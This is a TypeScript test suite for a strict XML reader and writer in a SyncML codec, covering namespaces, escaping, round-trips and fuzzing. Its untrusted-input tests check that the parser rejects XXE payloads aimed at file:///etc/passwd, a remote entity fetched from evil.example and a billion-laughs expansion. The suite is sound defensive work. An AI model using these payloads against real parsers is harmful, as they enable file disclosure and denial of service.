/**
 * The strict XML reader/writer (src/codec/xml.ts): namespaces and prefixes, mixed content, comments,
 * PIs and CDATA, escaping, round-trip properties, and untrusted input (no DTDs, no entities beyond
 * the five predefined ones, valid character references only, depth/element/byte caps) where every
 * failure must be a CodecError with a status (400, or 413 for limits). SyncML-level behaviour is in
 * syncml.test.ts.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DDF_NS, DEFAULT_LIMITS, METINF_NS, SYNCML12_NS, el, isElement, type DecodeLimits, type Namespace, type XElement, type XNode } from '../../src/codec/element.ts';
import { escapeText, parseXml, writeXml } from '../../src/codec/xml.ts';
import { CodecError } from '../../src/errors.ts';

const s = (name: string, ...children: XNode[]): XElement => el(name, children, 'syncml');
const m = (name: string, ...children: XNode[]): XElement => el(name, children, 'metinf');
const d = (name: string, ...children: XNode[]): XElement => el(name, children, 'ddf');
const utf8 = new TextEncoder();

function expectCodecError(fn: () => unknown, code: string, status = 400): CodecError {
  let err: unknown;
  try {
    fn();
  } catch (e) {
    err = e;
  }
  expect(err, 'expected a CodecError').toBeInstanceOf(CodecError);
  const e = err as CodecError;
  expect({ code: e.code, status: e.status }).toEqual({ code, status });
  return e;
}

/** Parses, or throws only a CodecError with a CODEC_ code and a 400/413 status. */
function parseOrCodecError(input: string | Uint8Array, limits?: DecodeLimits): XElement | undefined {
  try {
    return parseXml(input, limits);
  } catch (e) {
    if (!(e instanceof CodecError)) throw e;
    if (!/^CODEC_/.test(e.code) || (e.status !== 400 && e.status !== 413)) throw e;
    return undefined;
  }
}

function allNames(e: XElement): string[] {
  return [e.name, ...e.children.filter(isElement).flatMap(allNames)];
}

// ----------------------------------------------------------------------------------------------
// Arbitraries
// ----------------------------------------------------------------------------------------------

const NAMES = ['SyncML', 'SyncHdr', 'SyncBody', 'Data', 'Item', 'Meta', 'MetInf', 'Type', 'Format', 'MgmtTree', 'Node', 'x', '_y', 'a-b', 'c.d', 'Z9'];
const nameArb = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...NAMES) }, { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z_][-A-Za-z0-9_.]{0,8}$/) });
const nsArb = fc.constantFrom<Namespace>('syncml', 'metinf', 'ddf');
const SPECIAL = ['&', '<', '>', '"', "'", '\r', '\n', '\r\n', '\t', ' ', ']]>', '&amp;', '&#13;', '<!--', '<![CDATA[', '<?', '\u0000', '\u0001', '\u001f', '\uFEFF', '\uFFFE', 'é', '😀'];
const textArb = fc.string({
  unit: fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
    { weight: 2, arbitrary: fc.constantFrom(...SPECIAL) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  ),
  minLength: 1,
  maxLength: 12,
});

/** The children list parseXml produces: adjacent text merged, no empty text, no blank text beside elements. */
function normal(children: XNode[]): XNode[] {
  const merged: XNode[] = [];
  for (const c of children) {
    if (typeof c === 'string') {
      if (c === '') continue;
      const last = merged[merged.length - 1];
      if (typeof last === 'string') merged[merged.length - 1] = last + c;
      else merged.push(c);
    } else merged.push(c);
  }
  return merged.some(isElement) ? merged.filter((c) => typeof c !== 'string' || c.trim() !== '') : merged;
}

const treeArb: fc.Arbitrary<XElement> = fc.letrec<{ element: XElement }>((tie) => ({
  element: fc
    .tuple(nameArb, nsArb, fc.array(fc.oneof({ maxDepth: 4, depthIdentifier: 'xml' }, textArb, tie('element')), { maxLength: 4 }))
    .map(([name, ns, kids]): XElement => ({ name, ns, children: normal(kids) })),
})).element;

// ----------------------------------------------------------------------------------------------
// Reader
// ----------------------------------------------------------------------------------------------

describe('reader', () => {
  it('reads a compact SyncML document with MetInf children', () => {
    const xml = '<SyncML xmlns="SYNCML:SYNCML1.2"><SyncHdr><Meta><MaxMsgSize xmlns="syncml:metinf">16384</MaxMsgSize></Meta></SyncHdr><SyncBody><Final/></SyncBody></SyncML>';
    expect(parseXml(xml)).toStrictEqual(s('SyncML', s('SyncHdr', s('Meta', m('MaxMsgSize', '16384'))), s('SyncBody', s('Final'))));
  });

  it('resolves namespaces: default, inherited, prefixed (declared here or on an ancestor), MetInf wrapper, DDF, no xmlns', () => {
    expect(parseXml('<a><b/></a>')).toStrictEqual(s('a', s('b')));
    expect(parseXml('<Meta xmlns:m="syncml:metinf"><m:Type>t</m:Type><Format>f</Format></Meta>')).toStrictEqual(s('Meta', m('Type', 't'), s('Format', 'f')));
    expect(parseXml('<Meta><m:Type xmlns:m="syncml:metinf">t</m:Type></Meta>')).toStrictEqual(s('Meta', m('Type', 't')));
    expect(parseXml('<Meta><MetInf xmlns="syncml:metinf"><Type>t</Type><Mark>m</Mark></MetInf></Meta>')).toStrictEqual(s('Meta', m('MetInf', m('Type', 't'), m('Mark', 'm'))));
    expect(parseXml('<Data><MgmtTree xmlns="syncml:dmddf1.2"><Node><NodeName>n</NodeName></Node></MgmtTree></Data>')).toStrictEqual(
      s('Data', d('MgmtTree', d('Node', d('NodeName', 'n')))),
    );
    // namespace URIs compare case-insensitively; unknown URIs keep the inherited namespace
    expect(parseXml('<Meta xmlns="SYNCML:METINF"><Type xmlns="urn:other">t</Type></Meta>')).toStrictEqual(m('Meta', m('Type', 't')));
    expect(parseXml('<s:SyncML xmlns:s="SYNCML:SYNCML1.2"><s:Final/></s:SyncML>')).toStrictEqual(s('SyncML', s('Final')));
    // a MetInf default namespace ends with its element
    expect(parseXml('<Item><Meta xmlns="syncml:metinf"><Type>t</Type></Meta><Data>x</Data></Item>')).toStrictEqual(s('Item', m('Meta', m('Type', 't')), s('Data', 'x')));
  });

  it('drops blank text between elements, keeps text of leaves exactly, and keeps mixed content in order', () => {
    expect(parseXml('<a>\n  <b>  x  </b>\n  <c> </c>\n</a>')).toStrictEqual(s('a', s('b', '  x  '), s('c', ' ')));
    expect(parseXml('<Data>one<b/>two <c/> three</Data>')).toStrictEqual(s('Data', 'one', s('b'), 'two ', s('c'), ' three'));
  });

  it('skips comments, PIs and the XML declaration; merges CDATA with text without decoding it', () => {
    const xml = '<?xml version="1.0" encoding="UTF-8"?><!-- c --><a><!-- x --><?pi data?>t1<![CDATA[<&amp;>]]>t2&amp;<![CDATA[]]></a><!-- after --><?after?>\n';
    expect(parseXml(xml)).toStrictEqual(s('a', 't1<&amp;>t2&'));
  });

  it('decodes the five predefined entities and character references in text and attributes', () => {
    expect(parseXml('<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#X43;&#x1F600;&#0010;</a>')).toStrictEqual(s('a', '<>&"\'ABC😀\n'));
    expect(parseXml('<a xmlns="syncml&#58;metinf"/>')).toStrictEqual(m('a'));
    expect(parseXml("<a xmlns='syncml:metinf' other=\"&lt;&amp;\"/>")).toStrictEqual(m('a'));
  });

  it('keeps CR (raw or as &#13;): no line-end normalisation', () => {
    expect(parseXml('<a>x\r\ny\rz&#13;</a>')).toStrictEqual(s('a', 'x\r\ny\rz\r'));
  });

  it('accepts a BOM (string or UTF-8 bytes), reads bytes as UTF-8, and self-closing tags with blanks', () => {
    expect(parseXml('\uFEFF<a>é</a>')).toStrictEqual(s('a', 'é'));
    expect(parseXml(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8.encode('<a>中😀</a>')]))).toStrictEqual(s('a', '中😀'));
    expect(parseXml('<a><b /><c\n/><d\txmlns="syncml:metinf"\n/></a >')).toStrictEqual(s('a', s('b'), s('c'), m('d')));
  });
});

// ----------------------------------------------------------------------------------------------
// Writer
// ----------------------------------------------------------------------------------------------

describe('writer', () => {
  it('writes xmlns on the root and where the namespace changes; empty elements self-close', () => {
    const tree = s('SyncML', s('Meta', m('Type', 't'), m('Format', 'f')), s('Data', d('MgmtTree', d('Node'))), s('Final'));
    expect(writeXml(tree)).toBe(
      `<SyncML xmlns="${SYNCML12_NS}"><Meta><Type xmlns="${METINF_NS}">t</Type><Format xmlns="${METINF_NS}">f</Format></Meta>` +
        `<Data><MgmtTree xmlns="${DDF_NS}"><Node/></MgmtTree></Data><Final/></SyncML>`,
    );
    expect(writeXml(s('SyncML'), 'SYNCML:SYNCML1.1')).toBe('<SyncML xmlns="SYNCML:SYNCML1.1"/>');
    expect(writeXml(m('Meta', m('Type', 'x')))).toBe(`<Meta xmlns="${METINF_NS}"><Type>x</Type></Meta>`);
  });

  it('escapes & < > and CR and other C0 controls; quotes, tab and LF travel raw', () => {
    expect(escapeText('a&b<c>d"e\'f\tg\nh\ri\u0000j\u0001k\u001fl\u007fm')).toBe('a&amp;b&lt;c&gt;d"e\'f\tg\nh&#13;i&#0;j&#1;k&#31;l\u007fm');
    expect(escapeText(']]>')).toBe(']]&gt;');
    expect(writeXml(s('Data', 'x & y < z\r\n'))).toBe(`<Data xmlns="${SYNCML12_NS}">x &amp; y &lt; z&#13;\n</Data>`);
  });

  it('writes bytes as base64 text', () => {
    expect(writeXml(s('Data', new Uint8Array([0, 1, 2, 255])))).toBe(`<Data xmlns="${SYNCML12_NS}">AAEC/w==</Data>`);
    expect(parseXml(writeXml(s('Data', new Uint8Array([0, 1, 2, 255]))))).toStrictEqual(s('Data', 'AAEC/w=='));
  });
});

describe('properties', () => {
  it('parseXml(writeXml(t)) deep-equals t for random trees (three namespaces, mixed content, any characters)', () => {
    fc.assert(
      fc.property(treeArb, (tree) => {
        expect(parseXml(writeXml(tree))).toStrictEqual(tree);
        expect(parseXml(Buffer.from(writeXml(tree), 'utf8'))).toStrictEqual(tree);
      }),
      { numRuns: 1000 },
    );
  });

  it('writeXml(parseXml(writeXml(t))) is writeXml(t)', () => {
    fc.assert(
      fc.property(treeArb, (tree) => {
        const once = writeXml(tree);
        expect(writeXml(parseXml(once))).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  it('escapeText output never contains markup or raw CR/control characters', () => {
    fc.assert(
      fc.property(textArb, (t) => {
        const e = escapeText(t);
        expect(e).not.toMatch(/[<>\r\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
        expect(e.replace(/&(amp|lt|gt|#\d+);/g, '')).not.toContain('&');
        expect(parseXml(`<a>${e}</a>`)).toStrictEqual(s('a', ...(t === '' ? [] : [t])));
      }),
      { numRuns: 500 },
    );
  });
});

// ----------------------------------------------------------------------------------------------
// Untrusted input
// ----------------------------------------------------------------------------------------------

describe('untrusted input', () => {
  it('refuses DOCTYPE and every other markup declaration: CODEC_XML_DTD 400', () => {
    for (const x of [
      '<!DOCTYPE SyncML><SyncML/>',
      '<?xml version="1.0"?>\n<!DOCTYPE SyncML PUBLIC "-//SYNCML//DTD SyncML 1.2//EN" "http://www.openmobilealliance.org/tech/DTD/OMA-TS-SyncML_RepPro_DTD-V1_2.dtd"><SyncML/>',
      '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>',
      '<r><!ENTITY x "y"></r>',
      '<r><!ELEMENT r ANY></r>',
      '<r><![INCLUDE[ x ]]></r>',
      '<!doctype r><r/>',
    ]) {
      expectCodecError(() => parseXml(x), 'CODEC_XML_DTD');
    }
  });

  it('refuses undefined entities (including Object.prototype names): CODEC_XML_ENTITY 400', () => {
    for (const ent of ['&xxe;', '&nbsp;', '&AMP;', '&constructor;', '&__proto__;', '&toString;', '&hasOwnProperty;', '&valueOf;', '&;', '&amp', '& x', '&averyveryverylongname;']) {
      expectCodecError(() => parseXml(`<a>${ent}</a>`), 'CODEC_XML_ENTITY');
      expectCodecError(() => parseXml(`<a b="${ent}"/>`), 'CODEC_XML_ENTITY');
    }
  });

  it('refuses invalid character references: CODEC_XML_ENTITY 400, never a RangeError', () => {
    for (const ref of ['&#;', '&#x;', '&#-1;', '&#x-1;', '&#+9;', '&#1a;', '&#x1g;', '&#1.5;', '&#xD800;', '&#xdbff;', '&#xDC00;', '&#57343;', '&#x110000;', '&#1114112;', '&#xFFFFFFFF;', '&#99999999999;']) {
      expectCodecError(() => parseXml(`<a>${ref}</a>`), 'CODEC_XML_ENTITY');
    }
    expect(parseXml('<a>&#x10FFFF;&#xE000;&#xD7FF;</a>')).toStrictEqual(s('a', '\u{10FFFF}\uE000\uD7FF'));
  });

  it('syntax errors: CODEC_XML_SYNTAX 400', () => {
    for (const x of [
      '',
      ' \n\t',
      'text',
      '<!-- only a comment -->',
      '<a>',
      '<a><b></b>',
      '<a></b>',
      '<a><b></a></b>',
      '</a>',
      '<a/><b/>',
      '<a></a><a></a>',
      'x<a/>',
      '<a/>x',
      '<a/>&amp;',
      '<![CDATA[x]]><a/>',
      '<a',
      '<a ',
      '<a b>',
      '<a b=c/>',
      '<a b="c/>',
      '<a b="c" d/>',
      '<a/ >',
      '< a/>',
      '<1a/>',
      '<a></a',
      '<a></a x>',
      '<a><!-- unterminated</a>',
      '<a><![CDATA[ unterminated</a>',
      '<a><? unterminated</a>',
    ]) {
      expectCodecError(() => parseXml(x), 'CODEC_XML_SYNTAX');
    }
  });

  it('maxDepth: 64 levels accepted, 65 refused (a self-closing leaf counts as a level): CODEC_TOO_DEEP 413', () => {
    const open = (n: number, leaf: string): string => '<a>'.repeat(n - 1) + leaf + '</a>'.repeat(n - 1);
    expect(parseXml(open(64, '<b/>'))).toBeTruthy();
    expect(parseXml(open(64, '<b>x</b>'))).toBeTruthy();
    expectCodecError(() => parseXml(open(65, '<b/>')), 'CODEC_TOO_DEEP', 413);
    expectCodecError(() => parseXml(open(65, '<b>x</b>')), 'CODEC_TOO_DEEP', 413);
    expectCodecError(() => parseXml('<a>'.repeat(1_000_000)), 'CODEC_TOO_DEEP', 413);
    expectCodecError(() => parseXml('<a><b><c/></b></a>', { ...DEFAULT_LIMITS, maxDepth: 2 }), 'CODEC_TOO_DEEP', 413);
  });

  it('maxElements: CODEC_TOO_MANY_ELEMENTS 413', () => {
    const doc = `<a>${'<b/>'.repeat(9)}</a>`;
    expect(parseXml(doc, { ...DEFAULT_LIMITS, maxElements: 10 }).children).toHaveLength(9);
    expectCodecError(() => parseXml(doc, { ...DEFAULT_LIMITS, maxElements: 9 }), 'CODEC_TOO_MANY_ELEMENTS', 413);
    expectCodecError(() => parseXml(`<a>${'<b/>'.repeat(DEFAULT_LIMITS.maxElements)}</a>`), 'CODEC_TOO_MANY_ELEMENTS', 413);
  });

  it('maxBytes: counted in UTF-8 bytes for strings and bytes alike: CODEC_TOO_LARGE 413', () => {
    const doc = '<a>€€€</a>'; // 10 UTF-16 units, 16 bytes
    expect(parseXml(doc, { ...DEFAULT_LIMITS, maxBytes: 16 })).toStrictEqual(s('a', '€€€'));
    expectCodecError(() => parseXml(doc, { ...DEFAULT_LIMITS, maxBytes: 15 }), 'CODEC_TOO_LARGE', 413);
    expectCodecError(() => parseXml(utf8.encode(doc), { ...DEFAULT_LIMITS, maxBytes: 15 }), 'CODEC_TOO_LARGE', 413);
    expectCodecError(() => parseXml(`<a>${'x'.repeat(DEFAULT_LIMITS.maxBytes)}</a>`), 'CODEC_TOO_LARGE', 413);
  });

  const SOUP = ['<', '>', '/', '</', '/>', '<a>', '</a>', '<b/>', '<!--', '-->', '<![CDATA[', ']]>', '<?', '?>', '<!DOCTYPE', '&', ';', '&amp;', '&#', '&#x', '#', 'x', '"', "'", '=', ' ', '\n', ':', 'xmlns', 'xmlns:m="syncml:metinf"', 'm:', 'a', '1', '\u0000', 'é', '😀'];
  const soupArb = fc.string({ unit: fc.oneof(fc.constantFrom(...SOUP), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 50 });

  it('fuzz: random strings and bytes only ever give a tree or a CodecError; trees re-serialise stably', () => {
    let parsed = 0;
    fc.assert(
      fc.property(soupArb, fc.boolean(), fc.boolean(), (soup, wrap, small) => {
        const x = wrap ? `<a>${soup}</a>` : soup;
        const limits = small ? { maxBytes: 40, maxDepth: 3, maxElements: 4 } : undefined;
        parseOrCodecError(x, limits);
        const t = parseOrCodecError(utf8.encode(x), limits);
        if (t && allNames(t).every((n) => n !== '' && !n.includes(':'))) {
          parsed++;
          expect(parseXml(writeXml(t))).toStrictEqual(t);
        }
      }),
      { numRuns: 4000 },
    );
    expect(parsed).toBeGreaterThan(100); // the stability check is not vacuous
  });

  it('fuzz: arbitrary bytes (invalid UTF-8 included)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (b) => {
        parseOrCodecError(b);
      }),
      { numRuns: 2000 },
    );
  });

  it('fuzz: mutated writer output', () => {
    fc.assert(
      fc.property(
        treeArb,
        fc.array(fc.record({ at: fc.nat(), len: fc.integer({ min: 0, max: 8 }), insert: fc.constantFrom(...SOUP) }), { minLength: 1, maxLength: 4 }),
        (tree, muts) => {
          let x = writeXml(tree);
          for (const mu of muts) {
            const at = x.length === 0 ? 0 : mu.at % x.length;
            x = x.slice(0, at) + mu.insert + x.slice(at + mu.len);
          }
          parseOrCodecError(x);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('regressions', () => {
  it('an empty CDATA section adds no child (found by the fuzz test, seed 718769722)', () => {
    expect(parseXml('<a><![CDATA[]]></a>')).toStrictEqual({ name: 'a', ns: 'syncml', children: [] });
    expect(parseXml('<a>x<![CDATA[]]>y</a>')).toStrictEqual({ name: 'a', ns: 'syncml', children: ['xy'] });
  });
});
